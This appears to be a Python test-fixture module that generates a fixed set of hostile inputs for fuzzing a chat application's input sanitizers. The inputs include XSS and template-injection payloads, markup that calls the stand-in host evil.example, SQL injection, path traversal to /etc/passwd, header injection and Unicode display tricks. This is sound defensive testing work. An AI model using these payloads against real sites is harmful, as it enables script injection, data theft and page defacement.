"""Texts of somebody who means no good: to run scripts, to break out of where they stand, to wreck a page.

Some two and a half thousand, the same ones at every run.
"""

import html
import random
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from functools import cache
from itertools import product
from typing import TypeVar
from urllib.parse import quote

from chat.errors import Invalid

T = TypeVar("T")

RUN = "window.wasRun=1"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<details open ontoggle={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}>",
    f"<object data=javascript:{RUN}><embed src=javascript:{RUN}>",
    f"<body onpageshow={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<style onload={RUN}></style>",
    f"<a href=javascript:{RUN}>click</a>",
    f"<form action=javascript:{RUN}><button autofocus>press</button></form>",
    f"<math><mtext><table><mglyph><style><img src onerror={RUN}>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><script>{RUN}</script-->",
    "<plaintext><xmp><listing>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<style>@import 'https://evil.example/a.css';*{position:fixed;background:url(https://evil.example)}</style>",
    "<img src=https://evil.example/pixel.png>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><button>press</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"{{{{_openBlock.constructor('{RUN}')()}}}}[[{RUN}]]#{{{RUN}}}",
    f"<b v-html=\"'<img src=x onerror={RUN}>'\" @click={RUN} :is=script>",
    f"<component :is=\"'script'\" src=https://evil.example onload={RUN}></component>",
    f"${{{RUN}}}",
    f"{{% import os %}}{{{{ config }}}}{{{{ self.__init__.__globals__ }}}}<%={RUN}%>",
    "%s%n%x{0}{0.__class__}",
    f"`${{{RUN}}}`;{RUN}//",
    f"');{RUN}//",
    f'");{RUN}//',
    f"'-({RUN})-'",
    f"\\');{RUN}//\\u0027",
    f"*/{RUN}/*",
    f"javascript:{RUN}",
    f"JaVa\tScRiPt&colon;{RUN}",
    f"https://evil.example/'onmouseover='{RUN}",
    f'https://evil.example/"onmouseover="{RUN}" ',
    f"https://evil.example/`onmouseover=`{RUN}",
    "http://bank.example@evil.example/",
    'www.evil.example"style="position:fixed;inset:0',
    f"http://x<img/src/onerror={RUN}>",
    f"https://a.example/<b onclick={RUN}>",
    f"https://a.example/&quot;onclick={RUN}",
    "data:text/html,<script>parent.wasRun=1</script>",
    "//evil.example/%2e%2e\\evil.example",
    "../../../../etc/passwd",
    "Robert'); DROP TABLE message;--",
    "' OR '1'='1",
    "&lt;script&gt;&#60;script&#62;&#x3C;",
    '{"_id":1,"code":"window.wasRun=1"}',
    '42["run_javascript",{"code":"window.wasRun=1"}]',
    "__proto__ constructor hasOwnProperty undefined null NaN true -1 1e999",
    f"x\r\nSet-Cookie: a=b\r\n\r\n<script>{RUN}</script>",
)
"""What would set `window.wasRun` or ask another server, if any of it were taken for more than words."""

WRAPPINGS = (
    "{}",
    '"{}',
    "'>{}",
    '">{}<"',
    "`>{}",
    ' x="{}" x=',
    "</div></div>{}",
    "</b></a></li></details>{}",
    "--><!--{}",
    "]]>{}<![CDATA[",
    "</title></textarea></style></script>{}",
    "<<{}>>",
    "https://a.example/{}",
    "\u202e{}\u202c",
    "\u200b{}\ufeff",
    "x" * 60 + "{}",
    "{}\n\n{}",
    "\t{}\u0301\u0301",
    "{} 👩\u200d👩\u200d👧",
)
"""Where it could be standing, and what could hide it."""

SPELLINGS: tuple[Callable[[str], str], ...] = (
    html.escape,
    lambda text: "".join(f"&#{ord(character)};" for character in text[:40]),
    lambda text: quote(text, safe=""),
    lambda text: quote(quote(text, safe=""), safe=""),
    lambda text: text.encode("utf-7").decode(),
    lambda text: text.replace("<", "\\u003c").replace("'", "\\x27"),
    lambda text: text.translate({code: code + 0xFEE0 for code in b"<>\"'=/:{}"}),
    lambda text: text.replace("<", "<\0").replace("script", "scr\0ipt"),
)
"""How it could be written to be itself again once somebody decodes it: entities, percents, wide letters, holes."""

SPACES = "\u00a0\u1680\u2000\u2007\u2028\u2029\u202f\u205f\u3000"
UNSEEN = "\u200b\u200c\u200d\u2060\ufeff\u00ad\u180e\u034f\u3164\u115f\ufffc\u2800\ue000\ufffe\U000e0041\U0010ffff"
TURNING = "\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c"
CONTROLS = "".join(map(chr, (*range(32), *range(127, 160))))
MARKS = "\u0300\u0301\u0315\u035c\u0361\u0488\u20dd\u0e47\u0f72"
HALVES = ("\ud800", "\udfff", "a\ud83d", "\ude00a", "\ud83d \ude00", "\ud800@x", "<\udc00script>")
WORDS = (
    "👩‍👩‍👧‍👦",
    "🏳️‍🌈",
    "👍🏽",
    "🇩🇪",
    "1️⃣",
    "🏴\U000e0067\U000e0062\U000e007f",
    "ﷺ",
    "𝕳𝖊𝖑𝖑𝖔",
    "க்ஷி",
    "ﬃ",
    "İıſK",
    "ß",
)
"""Characters of which a browser makes one, or another."""

UNITS = ("x", "W", "\u202eabc", "ᄀ", "𝕏", "👩‍🚀", "<", "&", "(", "[", "a.", "https://", "\n", "_", "ﷺ", "🇩")
LIMITS = (80, 81, 254, 300, 301, 4000, 4001)
"""The longest that fields take, and more."""

WRECKERS = (
    "W" * 4000,
    "\u0645" * 500,
    "a\u0300\u0301\u0302\u0303\u0304\u0305" * 100,
    "\u202e" * 50 + "backwards",
    "\u2066\u2067\u2068" * 100 + "isolated",
    "\ufdfd" * 100,
    "😀" * 1000,
    "\n" * 100 + "x" + "\n" * 100,
    "https://example.com/" + "a" * 3000,
    "https://" + "a" * 63 + ".example/" + "?" * 900,
    "\u0e4f\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47\u0e47" * 20,
    "|" * 3000,
    "\u00ad" * 500 + "soft",
    "\u3000" * 20 + "wide",
    "[" * 3000,
    "👨" + "\u200d👩" * 60,
    "x" * 100_000,
    "\0" * 500,
    "http://256.256.256.256/@1 https://1.2.3.4.5.6/@7 http://[::1/@1 https://xn--/@2 https://a.example:99999/@3",
)
"""What could push a page out of shape."""


@cache
def texts() -> tuple[str, ...]:
    """Return all of them, each once."""
    every = (*wrapped(), *spelled(), *addresses(), *characters(), *lengths(), *WRECKERS, *mixed(500))
    return tuple(dict.fromkeys(every))


def wrapped() -> Iterator[str]:
    """Yield every script wherever it could be standing."""
    for wrapping, script in product(WRAPPINGS, SCRIPTS):
        yield wrapping.replace("{}", script)


def spelled() -> Iterator[str]:
    """Yield every script in every spelling."""
    for spell, script in product(SPELLINGS, SCRIPTS):
        yield spell(script)


def addresses() -> Iterator[str]:
    """Yield every script as what could pass for an address of mail."""
    for script in SCRIPTS:
        alone = "".join(script.replace("@", "").split())
        yield from (f"{alone}@evil.example", f"ada@{alone}")


def characters() -> Iterator[str]:
    """Yield what is not seen, turns the text around, is drawn far from its place, or is no character at all."""
    for one in SPACES + UNSEEN + TURNING + CONTROLS + MARKS:
        yield from (one, one * 200, f"a{one}b", f"<{one}script>{RUN}</script>", f"https://a{one}.example")
    yield from (*HALVES, *WORDS, "".join(WORDS) * 5, "Z" + MARKS * 40, ("e" + MARKS * 3) * 60)


def lengths() -> Iterator[str]:
    """Yield words without a break that are as long as a field takes, and longer."""
    for unit, limit in product(UNITS, LIMITS):
        yield (unit * limit)[:limit]


def mixed(count: int) -> Iterator[str]:
    """Yield pieces of all of them, shuffled together."""
    chance = random.Random(20)
    pieces = (*SCRIPTS, *WORDS, *SPACES, *UNSEEN, *TURNING, *MARKS, *"<>&\"'/=\\`{}")
    for _ in range(count):
        yield "".join(chance.choices(pieces, k=chance.randint(2, 6)))


def accepted(clean: Callable[..., str], *args: object) -> list[str]:
    """Return what is stored of all texts where `clean` decides about it, each once."""
    stored: dict[str, None] = {}
    for text in texts():
        with suppress(Invalid):
            stored[clean(text, *args)] = None
    return list(stored)


def spread(found: Sequence[T], count: int) -> list[T]:
    """Take so many, evenly from all kinds."""
    return [found[number * len(found) // count] for number in range(count)]
